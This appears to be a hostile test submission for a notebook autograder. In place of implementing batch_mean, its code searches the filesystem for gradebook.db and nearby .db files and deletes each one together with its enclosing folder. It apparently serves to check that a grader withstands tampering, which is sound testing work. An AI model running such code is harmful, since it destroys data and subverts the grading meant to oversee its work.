# about: deletes every gradebook.db it can find (and the .grading folder around it); no code
# expected: 0
# %% [batch_mean]
import os, glob, shutil
_found = set(glob.glob("/**/gradebook.db", recursive=True)[:50])
_here = os.path.abspath(os.getcwd())
for _ in range(8):
    _found.update(glob.glob(os.path.join(_here, "*.db")) + glob.glob(os.path.join(_here, ".grading", "*.db")))
    _here = os.path.dirname(_here)
for _db in _found:
    for _victim in (_db, os.path.dirname(_db)):
        try:
            (shutil.rmtree if os.path.isdir(_victim) else os.remove)(_victim)
            print("deleted", _victim)
        except OSError as _e:
            print("could not delete", _victim, _e)
def batch_mean(x):
    raise NotImplementedError()
